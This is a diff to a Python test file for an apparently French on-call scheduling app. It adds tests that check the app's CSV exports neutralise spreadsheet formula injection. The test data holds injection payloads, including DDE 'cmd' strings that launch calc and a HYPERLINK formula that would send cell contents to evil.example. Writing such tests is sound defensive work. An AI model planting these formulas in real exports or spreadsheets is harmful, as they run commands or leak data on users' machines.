@@ -58,6 +58,7 @@ from app.rotations.amendments import refresh_gaps
 from app.rotations.models import Rotation, Shift
 from app.slots.models import Slot
 from app.slots.service import sync_slots
+from app.stats.exports import Separator, to_csv
 from app.users.models import Role
 from tests.conftest import FrozenClock
 from tests.factories import (
@@ -550,3 +551,40 @@ def test_another_cpts_data_is_never_counted(
     ]
     assert len(referral_ids) == len(neighbour_ids) == 7
     assert not set(referral_ids) & set(neighbour_ids)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    client: TestClient, session: Session, week: Week
+) -> None:
+    week.alpha.last_name = "=cmd|' /C calc'!A0"
+    week.alpha.first_name = '+HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+    week.bravo.last_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    week.bravo.first_name = "-2+3+cmd|' /C calc'!A0"
+    week.nightingale.last_name = "\t=1+1"
+    week.nightingale.first_name = "\r=1+1"
+    week.centre.name = "=1+1;Pharmacie"
+    session.commit()
+    for separator, delimiter, encoding in (
+        ("comma", ",", "utf-8"),
+        ("semicolon", ";", "utf-8-sig"),
+    ):
+        params = {"month": "2027-03", "separator": separator}
+        hours = client.get("/v1/exports/oncall-hours.csv", headers=week.headers, params=params)
+        rows = _parse(hours.content.decode(encoding), delimiter)
+        assert {r["rpps"]: (r["last_name"], r["first_name"]) for r in rows} == {
+            week.alpha.rpps: (
+                "'=cmd|' /C calc'!A0",
+                '\'+HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+            ),
+            week.bravo.rpps: ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            week.nightingale.rpps: ("'\t=1+1", "'\r=1+1"),
+        }
+        params = {**WEEK, "separator": separator}
+        referrals = client.get("/v1/exports/referrals.csv", headers=week.headers, params=params)
+        pharmacies = {r["pharmacy"] for r in _parse(referrals.content.decode(encoding), delimiter)}
+        assert pharmacies == {"'=1+1;Pharmacie", "Pharmacie de la Gare"}
+
+
+def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
+    text = to_csv(("minutes", "hours", "name"), [[-30, -1.5, "-1"]], Separator.semicolon)
+    assert text == "\ufeffminutes;hours;name\r\n-30;-1,50;'-1\r\n"
